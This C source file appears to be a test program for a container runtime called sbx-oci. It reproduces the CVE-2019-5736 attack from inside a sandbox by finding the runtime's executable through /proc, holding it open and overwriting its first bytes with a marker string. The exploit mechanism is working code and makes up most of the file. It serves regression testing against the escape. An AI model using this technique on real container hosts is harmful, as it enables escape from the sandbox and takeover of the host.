/* The CVE-2019-5736 attack, run inside a sandbox as its first process:
   `exe_overwrite DEV INO DIR`.  It watches the sandbox's /proc for any
   process whose /proc/PID/exe is the file DEV:INO (the sbx-oci that will
   `exec` into the sandbox), keeps it open with O_PATH, waits until it is
   no longer being executed (ETXTBSY), reopens it for writing through
   /proc/self/fd/N and writes a marker over its first bytes.  Every
   process it looks at, and how far it got, goes to DIR/result.

   DIR/log.fifo, when there, is the --log of an sbx-oci the test runs as
   `exec ID /proc/self/exe --log DIR/log.fifo x`: that process blocks
   opening the FIFO, so it is sure to be seen; it is released (the FIFO
   opened for reading) once it has been looked at.  DIR/stop tells it the
   test is done; it then exits, after at most 3 s more of trying to write
   a file it holds.  It never runs longer than 30 s.  */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum
{
  MAX_PID = 1 << 16
};

static dev_t target_dev;
static ino_t target_ino;
static char dir[4096];
/* Per pid: 0 not looked at, 1 refused (looked at again: the refusal may
   lift, as when the process drops its capabilities), 2 done.  */
static unsigned char looked[MAX_PID];
static int held = -1; /* O_PATH fd of the target */
static int released;  /* the FIFO's writer was released */

static void
note (const char *fmt, ...)
{
  char path[4200];
  snprintf (path, sizeof path, "%s/result", dir);
  FILE *f = fopen (path, "a");
  if (f == NULL)
    return;
  va_list ap;
  va_start (ap, fmt);
  vfprintf (f, fmt, ap);
  va_end (ap);
  fputc ('\n', f);
  fclose (f);
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int
is_exe_of_proc_self (int pid)
{
  char path[64], cmd[64] = "";
  snprintf (path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  ssize_t n = read (fd, cmd, sizeof cmd - 1);
  close (fd);
  return n > 0 && strcmp (cmd, "/proc/self/exe") == 0;
}

/* Open FIFO for reading and close it: the blocked writer goes on.  */
static void
release_writer (void)
{
  char path[4200];
  snprintf (path, sizeof path, "%s/log.fifo", dir);
  int fd = open (path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0)
    close (fd);
  released = 1;
  note ("released the writer of log.fifo");
}

/* Open /proc/PID/exe; hold it when it is the target.  Sets looked[PID].  */
static void
examine (int pid)
{
  char path[64], link[4096] = "";
  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  int fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno == ENOENT)
        return; /* not there (yet): look again */
      if (looked[pid] == 0)
        note ("pid %d: cannot open its exe: %s", pid, strerror (errno));
      looked[pid] = 1;
      return;
    }
  struct stat st;
  if (readlink (path, link, sizeof link - 1) < 0)
    strcpy (link, "?");
  if (fstat (fd, &st) == 0 && st.st_dev == target_dev
      && st.st_ino == target_ino && held < 0)
    {
      held = fd;
      note ("pid %d: holds the target (%s)", pid, link);
    }
  else
    {
      note ("pid %d: exe %s", pid, link);
      close (fd);
    }
  looked[pid] = 2;
}

/* PID is looked at, whatever it runs now.  If it is the exec'd
   /proc/self/exe, let it go on (and exit): first give a refusal a second
   to lift.  */
static void
look_at (int pid)
{
  if (looked[pid] < 2)
    examine (pid);
  if (released || looked[pid] == 0 || !is_exe_of_proc_self (pid))
    return;
  for (int i = 0; looked[pid] == 1 && i < 100; i++)
    {
      usleep (10000);
      examine (pid);
    }
  release_writer ();
}

/* Every pid of the sandbox not looked at yet, and the next few ones: a
   process is caught right after its fork, before it execs.  */
static void
scan (int self, int *top)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  while (d && (e = readdir (d)) != NULL)
    {
      int pid = atoi (e->d_name);
      if (pid > 0 && pid < MAX_PID && pid != self)
        look_at (pid);
      if (pid > *top && pid < MAX_PID - 8)
        *top = pid;
    }
  if (d)
    closedir (d);
  for (int pid = *top + 1; pid <= *top + 4; pid++)
    if (pid != self && looked[pid] < 2)
      look_at (pid);
}

/* 1: written; 0: not yet (the target is still being executed).  */
static int
try_write (void)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/self/fd/%d", held);
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno != ETXTBSY)
        {
          note ("cannot reopen the target for writing: %s", strerror (errno));
          close (held);
          held = -1;
        }
      return 0;
    }
  static const char marker[] = "SBX-OCI-OVERWRITTEN";
  ssize_t n = pwrite (fd, marker, sizeof marker - 1, 0);
  note (n == (ssize_t) sizeof marker - 1 ? "OVERWRITTEN the target"
                                         : "write to the target failed: %s",
        strerror (errno));
  close (fd);
  return n > 0;
}

int
main (int argc, char **argv)
{
  if (argc != 4)
    {
      fprintf (stderr, "usage: exe_overwrite DEV INO DIR\n");
      return 2;
    }
  target_dev = (dev_t) strtoull (argv[1], NULL, 10);
  target_ino = (ino_t) strtoull (argv[2], NULL, 10);
  snprintf (dir, sizeof dir, "%s", argv[3]);
  note ("watching for %s:%s as pid %d", argv[1], argv[2], (int) getpid ());
  /* It spins: on a busy machine, let the execs it watches run first.  */
  if (setpriority (PRIO_PROCESS, 0, 10) < 0)
    note ("cannot lower its priority: %s", strerror (errno));
  int self = (int) getpid (), top = self;
  char stop[4200];
  snprintf (stop, sizeof stop, "%s/stop", dir);
  double end = now () + 30, stop_at = 0;
  while (now () < end)
    {
      scan (self, &top);
      if (held >= 0 && try_write ())
        return 0;
      if (stop_at == 0 && access (stop, F_OK) == 0)
        stop_at = now ();
      if (stop_at && (held < 0 || now () > stop_at + 3))
        break;
    }
  note ("done, target not written");
  return 0;
}
